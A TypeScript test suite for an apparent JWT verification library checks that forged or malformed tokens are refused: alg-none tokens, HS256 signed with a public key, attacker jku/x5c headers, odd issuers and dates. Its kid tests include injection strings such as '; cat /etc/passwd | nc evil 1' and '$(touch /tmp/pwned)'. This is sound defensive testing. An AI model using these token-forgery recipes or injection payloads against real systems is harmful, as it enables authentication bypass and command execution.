// One test per historical bug class of JWT libraries (RFC 8725, the anchors' CVEs). Each
// asserts the exact refusal, so a check that starts failing for another reason shows up.
import { createSecretKey, type KeyObject } from 'node:crypto';
import { inspect } from 'node:util';
import {
  createGuard,
  defineRequirement,
  type GuardEvent,
  type GuardOptions,
} from '@jwt-guard/core';
import {
  b64url,
  bearerRequest,
  createTestClock,
  createTestKey,
  createTokenFactory,
  refusalOf,
  replaceSegment,
  signBytes,
  signJwt,
  signRaw,
  startKeyServer,
  type KeyServer,
  type TestKey,
} from '@jwt-guard/testkit';
import {
  ISSUER,
  AUDIENCE,
  keys,
  clock,
  mint,
  guardWith,
  expectRefusal,
  claimsJson,
} from './token-refusal.js';

const now = clock.nowSeconds();

describe('alg none (CVE-2015-9235 class)', () => {
  const guard = guardWith();

  describe.each(['none', 'None', 'NONE', 'nOnE'])('alg %s', (alg) => {
    const header = JSON.stringify({ alg, typ: 'at+jwt', kid: keys.ES256.kid });
    const unsigned = signRaw(header, claimsJson(), { alg: 'none' });

    it('with an empty signature is malformed (an unsecured JWS is never parsed further)', async () => {
      expect(unsigned.endsWith('.')).toBe(true);
      await expectRefusal(guard.verify(unsigned), 'ERR_TOKEN_MALFORMED');
      await expectRefusal(guard.authenticate(bearerRequest(unsigned)), 'ERR_TOKEN_MALFORMED');
    });

    it('with a garbage signature is an algorithm not allowed', async () => {
      const garbage = replaceSegment(unsigned, 2, b64url('garbage-signature'));
      await expectRefusal(guard.verify(garbage), 'ERR_ALGORITHM_NOT_ALLOWED');
    });

    it('with a signature a real key made is still an algorithm not allowed', async () => {
      const input = unsigned.slice(0, -1);
      const signed = `${input}.${b64url(signBytes('ES256', keys.ES256.signingKey, input))}`;
      await expectRefusal(guard.verify(signed), 'ERR_ALGORITHM_NOT_ALLOWED');
    });
  });
});

describe('HS256 signed with the public key as the HMAC secret (CVE-2016-10555 class)', () => {
  const hmac = createTestKey('HS256', { kid: 'hmac-kid' });

  function secretForms(key: TestKey): [string, KeyObject][] {
    const pem = key.publicPem as string;
    const jwk = key.verificationKey.export({ format: 'jwk' });
    return [
      ['PEM with trailing newline', createSecretKey(Buffer.from(pem))],
      ['PEM without trailing newline', createSecretKey(Buffer.from(pem.trimEnd()))],
      ['PEM with leading junk', createSecretKey(Buffer.from(`junk\n${pem}`))],
      ['DER (SPKI)', createSecretKey(key.verificationKey.export({ format: 'der', type: 'spki' }))],
      ['JWK JSON string as published', createSecretKey(Buffer.from(JSON.stringify(key.jwk)))],
      ['JWK JSON string, bare', createSecretKey(Buffer.from(JSON.stringify(jwk)))],
    ];
  }

  describe.each([keys.RS256, keys.ES256])('public key of $alg', (key) => {
    const configured: [string, GuardOptions['keys']][] = [
      ['PEM', key.publicPem],
      ['JWK', key.jwk],
      ['KeyObject', key.verificationKey],
    ];

    describe.each(configured)('configured as %s', (_form, publicKey) => {
      const asymmetricOnly = guardWith({ keys: publicKey });
      // A deployment that also takes HS256 from another party must still never use the
      // public key as an HMAC secret: the key's type fixes its algorithms, not the token.
      const withHmac = guardWith({
        keys: [publicKey, hmac.jwk] as GuardOptions['keys'],
        algorithms: [key.alg, 'HS256'],
      });

      it('both guards accept their legitimate tokens', async () => {
        expect(key.publicPem?.endsWith('\n')).toBe(true);
        await expect(asymmetricOnly.verify(mint.sign(key))).resolves.toBeDefined();
        await expect(withHmac.verify(mint.sign(key))).resolves.toBeDefined();
        await expect(withHmac.verify(mint.sign(hmac))).resolves.toBeDefined();
      });

      it.each(secretForms(key))('secret = %s', async (_name, secret) => {
        const forge = (kid: string | undefined): string =>
          signJwt(key, mint.claims(), { header: { alg: 'HS256', kid }, signingKey: secret });
        await expectRefusal(asymmetricOnly.verify(forge(key.kid)), 'ERR_ALGORITHM_NOT_ALLOWED');
        await expectRefusal(asymmetricOnly.verify(forge(undefined)), 'ERR_ALGORITHM_NOT_ALLOWED');
        // The public key's kid names no HMAC key; without a kid only the real secret is tried.
        await expectRefusal(withHmac.verify(forge(key.kid)), 'ERR_KEY_NOT_FOUND');
        await expectRefusal(withHmac.verify(forge(undefined)), 'ERR_SIGNATURE_INVALID');
        await expectRefusal(withHmac.verify(forge(hmac.kid)), 'ERR_SIGNATURE_INVALID');
      });
    });
  });
});

describe('key-selecting headers: jwk, jku, x5u, x5c (RFC 8725 §3.10)', () => {
  const attackerKey = createTestKey('ES256', { kid: 'attacker' });
  let legit: KeyServer;
  let attacker: KeyServer;
  let guard: ReturnType<typeof createGuard>;
  let forgeFor: (header: Record<string, unknown>) => string;

  beforeAll(async () => {
    legit = await startKeyServer({ keys: [keys.ES256, keys.RS256] });
    attacker = await startKeyServer({ keys: [attackerKey], discovery: 'both' });
    guard = createGuard({ issuer: legit.issuer, audience: AUDIENCE, clock });
    const attackerMint = createTokenFactory({ issuer: legit.issuer, audience: AUDIENCE, clock });
    forgeFor = (header) => attackerMint.sign(attackerKey, {}, { header });
  });
  afterAll(async () => {
    await legit.close();
    await attacker.close();
  });

  const x5c = [
    attackerKey.verificationKey.export({ format: 'der', type: 'spki' }).toString('base64'),
  ];

  it.each([
    ['embedded jwk', () => ({ jwk: attackerKey.jwk })],
    ['jku to the attacker JWKS', () => ({ jku: attacker.jwksUri })],
    [
      'x5u to the attacker server',
      () => ({ x5u: `${attacker.origin}/.well-known/openid-configuration` }),
    ],
    ['x5c with the attacker key', () => ({ x5c })],
  ])('%s is ignored: never a key source', async (_name, extra) => {
    const header = extra();
    await expectRefusal(
      guard.verify(forgeFor({ ...header, kid: 'attacker' })),
      'ERR_KEY_NOT_FOUND',
    );
    await expectRefusal(
      guard.verify(forgeFor({ ...header, kid: keys.ES256.kid })),
      'ERR_SIGNATURE_INVALID',
    );
    await expectRefusal(
      guard.verify(forgeFor({ ...header, kid: undefined })),
      'ERR_SIGNATURE_INVALID',
    );
    expect(legit.hits.jwks).toBeGreaterThan(0);
    expect(attacker.hits).toEqual({ jwks: 0, metadata: 0, redirected: 0 });
  });

  it('the legitimate key is still accepted with the same headers present', async () => {
    const mintLegit = createTokenFactory({ issuer: legit.issuer, audience: AUDIENCE, clock });
    const token = mintLegit.sign(keys.ES256, {}, { header: { jku: attacker.jwksUri, x5c } });
    await expect(guard.verify(token)).resolves.toMatchObject({ issuer: legit.issuer });
    expect(attacker.hits).toEqual({ jwks: 0, metadata: 0, redirected: 0 });
  });
});

describe('kid is a lookup key, never a path, query or command', () => {
  const guard = guardWith();
  const withKid = (kid: unknown): string => mint.sign(keys.ES256, {}, { header: { kid } });

  it.each([
    ['path traversal', '../../dev/null'],
    ['absolute path', '/etc/passwd'],
    ['SQL injection', "' OR 1=1 --"],
    ['command substitution', '$(touch /tmp/pwned)'],
    ['command chaining', '; cat /etc/passwd | nc evil 1'],
    ['NUL suffix', `${keys.ES256.kid}\u0000`],
    ['other case', keys.ES256.kid.toUpperCase()],
    ['prototype name', '__proto__'],
    ['empty string', ''],
    ['unknown', 'no-such-key'],
    ['1024 characters (the longest accepted)', 'k'.repeat(1024)],
  ])('%s → ERR_KEY_NOT_FOUND', async (_name, kid) => {
    await expectRefusal(guard.verify(withKid(kid)), 'ERR_KEY_NOT_FOUND');
  });

  it.each([
    ['longer than 1024 characters', 'k'.repeat(1025)],
    ['a number', 1],
    ['an object', { path: '../../dev/null' }],
    ['an array', [keys.ES256.kid]],
    ['null', null],
    ['a boolean', true],
  ])('%s → ERR_HEADER_INVALID', async (_name, kid) => {
    await expectRefusal(guard.verify(withKid(kid)), 'ERR_HEADER_INVALID');
  });
});

describe('iss matches exactly (never an element of an attacker array, never a prefix)', () => {
  const guard = guardWith();

  it('the configured issuer is accepted', async () => {
    await expect(guard.verify(mint.sign(keys.ES256))).resolves.toMatchObject({ issuer: ISSUER });
  });

  it.each([
    ['an array holding the issuer', [ISSUER]],
    ['an array holding the issuer and another', ['https://evil.example/', ISSUER]],
    ['without the trailing slash', 'https://idp.example'],
    ['with a second trailing slash', 'https://idp.example//'],
    ['in another case', 'https://IDP.example/'],
    ['with another scheme case', 'HTTPS://idp.example/'],
    ['as a prefix of a longer path', 'https://idp.example/tenant/'],
    ['as a prefix of another host', 'https://idp.example.evil/'],
    ['with surrounding whitespace', ` ${ISSUER}`],
    ['as a number', 42],
    ['as an object', { iss: ISSUER }],
    ['as null', null],
    ['missing', undefined],
  ])('iss %s → ERR_ISSUER_INVALID', async (_name, iss) => {
    await expectRefusal(guard.verify(mint.sign(keys.ES256, { iss })), 'ERR_ISSUER_INVALID');
  });
});

describe('NumericDates are finite JSON numbers (raw JSON text)', () => {
  const guard = guardWith();
  const header = JSON.stringify({ alg: 'ES256', typ: 'at+jwt', kid: keys.ES256.kid });
  const tokenWith = (dates: { exp?: string; iat?: string; nbf?: string }): string => {
    const members = [
      `"iss":${JSON.stringify(ISSUER)}`,
      '"sub":"alice"',
      `"aud":${JSON.stringify(AUDIENCE)}`,
      `"iat":${dates.iat ?? String(now)}`,
      `"exp":${dates.exp ?? String(now + 60)}`,
      ...(dates.nbf === undefined ? [] : [`"nbf":${dates.nbf}`]),
    ];
    return signRaw(header, `{${members.join(',')}}`, {
      alg: 'ES256',
      key: keys.ES256.signingKey,
    });
  };

  it('a fractional exp is a valid NumericDate (RFC 7519 §2)', async () => {
    await expect(guard.verify(tokenWith({ exp: `${now + 60}.5` }))).resolves.toBeDefined();
  });

  it.each([
    ['exp as a string', { exp: `"${now + 60}"` }],
    ['exp as 1e400 (Infinity once parsed)', { exp: '1e400' }],
    ['exp as -1e400', { exp: '-1e400' }],
    ['exp as null', { exp: 'null' }],
    ['exp as true', { exp: 'true' }],
    ['exp as an array', { exp: `[${now + 60}]` }],
    ['iat as 1e400', { iat: '1e400' }],
    ['iat as a string', { iat: `"${now}"` }],
    ['nbf as a string', { nbf: `"${now}"` }],
    ['nbf as -1e400', { nbf: '-1e400' }],
  ])('%s → ERR_CLAIM_INVALID', async (_name, dates) => {
    await expectRefusal(guard.verify(tokenWith(dates)), 'ERR_CLAIM_INVALID');
  });

  it.each([
    ['exp 1e308 (finite, so the lifetime cap answers)', { exp: '1e308' }],
    ['exp 2^53 - 1', { exp: String(Number.MAX_SAFE_INTEGER) }],
    ['a far-past iat stretching the lifetime', { iat: '-1e308' }],
  ])('%s → ERR_LIFETIME_EXCEEDED', async (_name, dates) => {
    await expectRefusal(guard.verify(tokenWith(dates)), 'ERR_LIFETIME_EXCEEDED');
  });

  it('exp 1e308 without iat is capped from now', async () => {
    const noIat = guardWith({ requiredClaims: { iat: false } });
    const token = signRaw(
      header,
      `{"iss":${JSON.stringify(ISSUER)},"sub":"alice","aud":${JSON.stringify(AUDIENCE)},"exp":1e308}`,
      { alg: 'ES256', key: keys.ES256.signingKey },
    );
    await expectRefusal(noIat.verify(token), 'ERR_LIFETIME_EXCEEDED');
  });

  it('a negative exp → ERR_TOKEN_EXPIRED', async () => {
    await expectRefusal(guard.verify(tokenWith({ exp: '-1' })), 'ERR_TOKEN_EXPIRED');
  });
});

describe('the verified-token cache re-checks time on every call', () => {
  it('a token without iat dies at its exp, also when cached', async () => {
    const testClock = createTestClock();
    const events: GuardEvent[] = [];
    const guard = guardWith({
      clock: testClock,
      requiredClaims: { iat: false },
      onEvent: (event) => events.push(event),
    });
    const issuedAt = testClock.nowSeconds();
    const token = signJwt(keys.ES256, {
      iss: ISSUER,
      aud: AUDIENCE,
      sub: 'alice',
      exp: issuedAt + 60,
    });
    await guard.verify(token);
    await guard.verify(token);
    expect(events.map((e) => e.type === 'token.accepted' && e.cached)).toEqual([false, true]);
    // Expiry is exp + the default 5 s tolerance.
    testClock.advanceSeconds(65);
    await expectRefusal(guard.verify(token), 'ERR_TOKEN_EXPIRED');
  });

  it('a cached token dies when it becomes older than maxTokenAgeSeconds', async () => {
    const testClock = createTestClock();
    const guard = guardWith({ clock: testClock, maxTokenAgeSeconds: 60 });
    const token = createTokenFactory({ issuer: ISSUER, audience: AUDIENCE, clock: testClock }).sign(
      keys.ES256,
    );
    await guard.verify(token);
    testClock.advanceSeconds(65);
    await expect(guard.verify(token)).resolves.toBeDefined();
    testClock.advanceSeconds(1);
    await expectRefusal(guard.verify(token), 'ERR_TOKEN_TOO_OLD');
  });

  it('a cached token without exp dies at iat + maxLifetimeSeconds', async () => {
    const testClock = createTestClock();
    const guard = guardWith({
      clock: testClock,
      requiredClaims: { exp: false },
      maxLifetimeSeconds: 300,
    });
    const token = signJwt(keys.ES256, {
      iss: ISSUER,
      aud: AUDIENCE,
      sub: 'alice',
      iat: testClock.nowSeconds(),
    });
    await guard.verify(token);
    testClock.advanceSeconds(304);
    await expect(guard.verify(token)).resolves.toBeDefined();
    testClock.advanceSeconds(1);
    await expectRefusal(guard.verify(token), 'ERR_TOKEN_EXPIRED');
  });
});

describe('signature encodings and weak keys', () => {
  it.each([keys.ES256, keys.ES384, keys.ES512])(
    '$alg with a DER signature → ERR_SIGNATURE_INVALID (RFC 7518 §3.4: raw r‖s)',
    async (key) => {
      const guard = guardWith({ keys: key.jwk });
      await expect(guard.verify(mint.sign(key))).resolves.toBeDefined();
      await expectRefusal(guard.verify(mint.sign(key, {}, { der: true })), 'ERR_SIGNATURE_INVALID');
    },
  );

  describe('RSA under 2048 bits', () => {
    const weak = createTestKey('RS256', { kid: 'weak-1024', rsaBits: 1024 });

    it('in a remote JWKS is skipped with an event, and its tokens find no key', async () => {
      const server = await startKeyServer({ keys: [weak, keys.ES256] });
      try {
        const events: GuardEvent[] = [];
        const guard = guardWith({
          keys: undefined,
          jwksUri: server.jwksUri,
          onEvent: (event) => events.push(event),
        });
        await expectRefusal(guard.verify(mint.sign(weak)), 'ERR_KEY_NOT_FOUND');
        expect(events).toContainEqual({
          type: 'keys.key_skipped',
          source: server.jwksUri,
          kid: 'weak-1024',
          reason: expect.stringContaining('2048'),
        });
        await expect(guard.verify(mint.sign(keys.ES256))).resolves.toBeDefined();
      } finally {
        await server.close();
      }
    });
  });
});

describe('typ (RFC 9068 §2.1, RFC 8725 §3.11)', () => {
  const lenient = guardWith();
  const strict = guardWith({ strict: true });
  const typed = (typ: unknown, extra: Record<string, unknown> = {}): string =>
    mint.sign(keys.ES256, extra, { header: { typ } });

  it.each(['at+jwt', 'application/at+jwt', 'AT+JWT', 'JWT', 'jwt', undefined])(
    'typ %s is accepted outside strict mode',
    async (typ) => {
      await expect(lenient.verify(typed(typ))).resolves.toBeDefined();
    },
  );

  it.each(['dpop+jwt', 'application/dpop+jwt', 'logout+jwt', 'secevent+jwt', 'at+jwt2', 42])(
    'typ %s is refused → ERR_TYPE_INVALID',
    async (typ) => {
      await expectRefusal(lenient.verify(typed(typ)), 'ERR_TYPE_INVALID');
      await expectRefusal(strict.verify(typed(typ)), 'ERR_TYPE_INVALID');
    },
  );

  it.each(['at+jwt', 'application/at+jwt'])('strict mode accepts typ %s', async (typ) => {
    await expect(strict.verify(typed(typ))).resolves.toBeDefined();
  });

  it.each(['JWT', undefined])('strict mode refuses typ %s → ERR_TYPE_INVALID', async (typ) => {
    await expectRefusal(strict.verify(typed(typ)), 'ERR_TYPE_INVALID');
  });

  it.each(['client_id', 'jti'])('strict mode requires %s → ERR_CLAIM_MISSING', async (claim) => {
    await expect(lenient.verify(typed('at+jwt', { [claim]: undefined }))).resolves.toBeDefined();
    const error = await refusalOf(strict.verify(typed('at+jwt', { [claim]: undefined })));
    expect({ code: error.code, requirement: error.requirement }).toEqual({
      code: 'ERR_CLAIM_MISSING',
      requirement: claim,
    });
  });

  it('an ID token (typ JWT, nonce, no client_id) is refused in strict mode', async () => {
    const idToken = signJwt(
      keys.ES256,
      {
        iss: ISSUER,
        sub: 'alice',
        aud: AUDIENCE,
        iat: now,
        exp: now + 300,
        nonce: 'n-0S6_WzA2Mj',
        auth_time: now - 10,
        at_hash: 'HK6E_P6Dh8Y93mRNtsDB1Q',
      },
      { header: { typ: 'JWT' } },
    );
    await expectRefusal(strict.verify(idToken), 'ERR_TYPE_INVALID');
  });
});

describe('several issuers, each with its own keys', () => {
  const keyA = createTestKey('ES256', { kid: 'shared-kid' });
  const keyB = createTestKey('ES256', { kid: 'b-key' });
  const keyB2 = createTestKey('ES256', { kid: 'shared-kid' });
  const A = 'https://a.example/';
  const B = 'https://b.example/';
  const guard = createGuard({
    issuer: [
      { issuer: A, keys: keyA.jwk },
      { issuer: B, keys: [keyB.jwk, keyB2.jwk] },
    ],
    audience: AUDIENCE,
    clock,
  });
  const claimsOf = createTokenFactory({ issuer: A, audience: AUDIENCE, clock }).claims;

  it('each issuer accepts its own tokens', async () => {
    await expect(guard.verify(signJwt(keyA, claimsOf()))).resolves.toMatchObject({ issuer: A });
    await expect(guard.verify(signJwt(keyB, claimsOf({ iss: B })))).resolves.toMatchObject({
      issuer: B,
    });
  });

  it("a token signed with B's key but claiming A is never checked with B's keys", async () => {
    await expectRefusal(guard.verify(signJwt(keyB, claimsOf())), 'ERR_KEY_NOT_FOUND');
    await expectRefusal(
      guard.verify(signJwt(keyB, claimsOf(), { header: { kid: undefined } })),
      'ERR_SIGNATURE_INVALID',
    );
    // Same kid at both issuers: A's key answers, and fails.
    await expectRefusal(guard.verify(signJwt(keyB2, claimsOf())), 'ERR_SIGNATURE_INVALID');
  });
});

describe('refusals never carry the token, a claim value or key material', () => {
  const MARKER = 'SECRET-MARKER';
  const events: GuardEvent[] = [];
  const guard = guardWith({ onEvent: (event) => events.push(event) });
  const secretClaims = { sub: `sub-${MARKER}`, tenant: `tenant-${MARKER}`, scope: 'read:items' };
  const token = mint.sign(keys.ES256, secretClaims);
  const header = JSON.stringify({ alg: 'ES256', typ: 'at+jwt', kid: keys.ES256.kid });

  const cases: [string, () => Promise<unknown>][] = [
    [
      'ERR_TOKEN_EXPIRED',
      () => guard.verify(mint.sign(keys.ES256, { ...secretClaims, exp: now - 60 })),
    ],
    [
      'ERR_AUDIENCE_INVALID',
      () => guard.verify(mint.sign(keys.ES256, { ...secretClaims, aud: `aud-${MARKER}` })),
    ],
    [
      'ERR_ISSUER_INVALID',
      () => guard.verify(mint.sign(keys.ES256, { ...secretClaims, iss: `https://${MARKER}/` })),
    ],
    [
      'ERR_SIGNATURE_INVALID',
      () => guard.verify(replaceSegment(token, 2, mint.sign(keys.ES256).split('.')[2] as string)),
    ],
    [
      'ERR_KEY_NOT_FOUND',
      () => guard.verify(mint.sign(keys.ES256, secretClaims, { header: { kid: `kid-${MARKER}` } })),
    ],
    [
      'ERR_TOKEN_MALFORMED',
      () =>
        guard.verify(
          signRaw(header, `[${JSON.stringify(secretClaims)}]`, {
            alg: 'ES256',
            key: keys.ES256.signingKey,
          }),
        ),
    ],
    [
      'ERR_CLAIM_INVALID',
      () => guard.verify(mint.sign(keys.ES256, { ...secretClaims, exp: `exp-${MARKER}` })),
    ],
    ['ERR_AUTHORIZATION_MALFORMED', () => guard.authenticate(bearerRequest(`${token} ${MARKER}`))],
    [
      'ERR_SCOPE_INSUFFICIENT',
      async () => {
        guard.authorize(await guard.verify(token), defineRequirement({ scopes: ['admin'] }));
      },
    ],
    [
      'ERR_CLAIM_MISMATCH',
      async () => {
        const requirement = defineRequirement({ claims: [{ claim: 'tenant', equals: 'other' }] });
        guard.authorize(await guard.verify(token), requirement);
      },
    ],
  ];

  const secrets = [
    MARKER,
    token,
    token.split('.')[1] as string,
    token.split('.')[2] as string,
    keys.ES256.jwk.x as string,
    keys.ES256.jwk.y as string,
  ];

  it.each(cases)('%s', async (code, run) => {
    const error = await refusalOf(run());
    expect(error.code).toBe(code);
    const rendered = [
      error.message,
      String(error),
      error.stack ?? '',
      JSON.stringify(error),
      JSON.stringify(error.headers),
      inspect(error, { depth: 10 }),
    ].join('\n');
    for (const secret of secrets) expect(rendered).not.toContain(secret);
    const audit = JSON.stringify(events);
    expect(audit).not.toContain(token);
    expect(audit).not.toContain(keys.ES256.jwk.x as string);
  });
});
